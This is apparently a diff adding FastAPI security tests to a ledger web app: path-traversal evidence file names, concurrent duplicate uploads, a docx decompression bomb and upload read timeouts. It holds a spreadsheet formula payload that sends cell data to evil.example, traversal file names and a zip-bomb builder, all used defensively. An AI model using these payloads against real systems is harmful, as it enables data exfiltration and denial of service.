@@ -4,19 +4,21 @@ the Content-Security-Policy and the Origin check. Each on SQLite and PostgreSQL.
 from __future__ import annotations
 
 import re
+import threading
 from datetime import timedelta
 from io import BytesIO
 
+import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
-from sqlalchemy import Engine, select, update
+from sqlalchemy import Engine, func, select, update
 
 from taizhang.formulas import csv_safe
 from taizhang.ledger import make_sessionmaker
-from taizhang.ledger.models import ApiToken, Target, utcnow
+from taizhang.ledger.models import ApiToken, Document, Target, utcnow
 from taizhang.web import throttle
 from taizhang.web.users import reset_password, revoke_token, unlock, update_user
-from tests.web.conftest import PASSWORD, login, token_for
+from tests.web.conftest import EXAMPLE, PASSWORD, login, token_for
 
 EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")"
 
@@ -195,3 +197,137 @@ def test_openapi_documents_refusals_and_two_item_spans(client: TestClient) -> No
     assert {"400", "401", "403", "409", "413", "415", "422"} <= set(upload)
     span = spec["components"]["schemas"]["TargetPublic"]["properties"]["value_span"]
     assert span["minItems"] == span["maxItems"] == 2 and not isinstance(span.get("items"), list)
+
+
+def test_evidence_names_of_dots_or_paths_are_sanitised_and_refusals_leave_no_folder(
+        client: TestClient, engine: Engine, seeded: dict[str, int], settings) -> None:  # type: ignore[no-untyped-def]
+    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
+    url = f"/api/targets/{seeded['t_jy']}/progress"
+    shown = []
+    for name in ("..", ".", "...", "a/b.pdf", "..\\..\\c.pdf", "../../x.pdf"):
+        r = client.post(url, headers=auth, data={"as_of": "2024-06-30", "value": "600"},
+                        files={"evidence": (name, b"data", "text/plain")})
+        assert r.status_code == 201, (name, r.text)
+        shown.append(r.json()["evidence"][0]["name"])
+    assert shown[3:] == ["b.pdf", "c.pdf", "x.pdf"]
+    assert not any(s.strip(".") == "" or "/" in s or "\\" in s for s in shown), shown
+    stored = sorted(p for p in settings.evidence_dir.rglob("*") if p.is_file())
+    assert len(stored) == 6 and all(p.parent.parent == settings.evidence_dir for p in stored)
+    # a report refused after its files were written (an implausible value) keeps none of them
+    r = client.post(url, headers=auth, data={"as_of": "2024-06-30", "value": "5亿"},
+                    files=[("evidence", ("..", b"x", "text/plain")),
+                           ("evidence", ("表.pdf", b"%PDF-1", "application/pdf"))])
+    assert r.status_code == 400, r.text
+    assert sorted(p for p in settings.evidence_dir.rglob("*") if p.is_file()) == stored
+    assert len(list(settings.evidence_dir.iterdir())) == 6, "no empty folder is left behind"
+
+
+@pytest.mark.postgres
+@pytest.mark.parametrize("engine", ["postgresql"], indirect=True)
+def test_eight_concurrent_uploads_of_one_text_store_it_once(app, engine: Engine) -> None:  # type: ignore[no-untyped-def]
+    """The losers of the race on the content-hash key get what a later upload of the same text
+    gets (201, created false, the stored document), never a 500."""
+    auth = {"Authorization": f"Bearer {token_for(engine, 'admin')}"}
+    data = EXAMPLE.read_bytes().replace("。".encode(), "。\n".encode())  # a text not yet stored
+    start = threading.Barrier(8)
+    answers: list[tuple[int, dict]] = []  # type: ignore[type-arg]
+
+    def upload() -> None:
+        with TestClient(app, raise_server_exceptions=False) as c:
+            start.wait()
+            r = c.post("/api/documents", headers=auth, files={"file": ("same.txt", data)},
+                       data={"date": "2024-06-28"})
+            answers.append((r.status_code, r.json()))
+
+    threads = [threading.Thread(target=upload) for _ in range(8)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(120)
+    assert [code for code, _ in answers] == [201] * 8, answers
+    assert sorted(a["created"] for _, a in answers) == [False] * 7 + [True]
+    ids = {a["document"]["id"] for _, a in answers}
+    with make_sessionmaker(engine)() as s:
+        assert s.scalar(select(func.count()).select_from(Document)
+                        .where(Document.source == "same.txt")) == 1
+        assert ids == set(s.scalars(select(Document.id).where(Document.source == "same.txt")))
+
+
+def _docx_bomb() -> bytes:
+    """A .docx of about 60 KB whose document.xml expands to 60 MB (over the 50 MB limit)."""
+    import zipfile
+
+    body = b"<w:p><w:r><w:t>" + b"A" * (60 * 1024 * 1024) + b"</w:t></w:r></w:p>"
+    out = BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.'
+                   'openxmlformats.org/package/2006/content-types"/>')
+        z.writestr("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="http://'
+                   b'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' + body
+                   + b"</w:body></w:document>")
+    return out.getvalue()
+
+
+def _a_docx() -> bytes:
+    import docx
+
+    document = docx.Document()
+    document.add_paragraph("2024年6月28日")
+    document.add_paragraph("全年有效“高企”突破1500家，新增专精特新企业100家。")
+    out = BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def _documents(engine: Engine) -> int:
+    with make_sessionmaker(engine)() as s:
+        return int(s.scalar(select(func.count()).select_from(Document)) or 0)
+
+
+def _uploads_left(folder) -> list:  # type: ignore[no-untyped-def,type-arg]
+    """Upload copies in `folder` (not multiprocessing's own `pymp-…` folder)."""
+    return [p for p in folder.rglob("*") if not p.name.startswith("pymp-")
+            and not p.parent.name.startswith("pymp-")]
+
+
+def test_a_docx_bomb_is_refused_and_leaves_nothing(client: TestClient, engine: Engine,
+                                                   tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    import tempfile
+
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
+    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
+    bomb = _docx_bomb()
+    assert len(bomb) < 200 * 1024  # under the test's upload limit: the reader has to refuse it
+    r = client.post("/api/documents", headers=auth, data={"date": "2024-06-28"},
+                    files={"file": ("炸弹.docx", bomb)})
+    assert r.status_code == 422 and "expands to" in r.json()["detail"], r.text
+    csrf = login(client, "sup")
+    page = client.post("/upload", data={"csrf_token": csrf, "date": "2024-06-28"},
+                       files={"file": ("炸弹.docx", bomb)}, headers={"Accept": "text/html"})
+    assert page.status_code == 422 and "expands to" in page.text
+    assert _documents(engine) == 1  # the seeded one only
+    assert _uploads_left(scratch) == [], "no uploaded file is left behind"
+
+
+def test_reading_an_upload_is_stopped_after_its_time_limit(app, engine: Engine, tmp_path,  # type: ignore[no-untyped-def]
+                                                           monkeypatch) -> None:
+    import tempfile
+
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
+    auth = {"Authorization": f"Bearer {token_for(engine, 'sup')}"}
+    data = _a_docx()
+    with TestClient(app) as c:
+        app.state.settings.upload_read_seconds = 0.001  # no child answers that fast
+        r = c.post("/api/documents", headers=auth, data={"date": "2024-06-28"},
+                   files={"file": ("慢.docx", data)})
+        assert r.status_code == 422 and "took longer than 0.001 s" in r.json()["detail"], r.text
+        assert _documents(engine) == 1 and _uploads_left(scratch) == []
+        app.state.settings.upload_read_seconds = 60
+        r = c.post("/api/documents", headers=auth, data={"date": "2024-06-28"},
+                   files={"file": ("慢.docx", data)})
+        assert r.status_code == 201 and r.json()["created"], r.text
+        assert _documents(engine) == 2
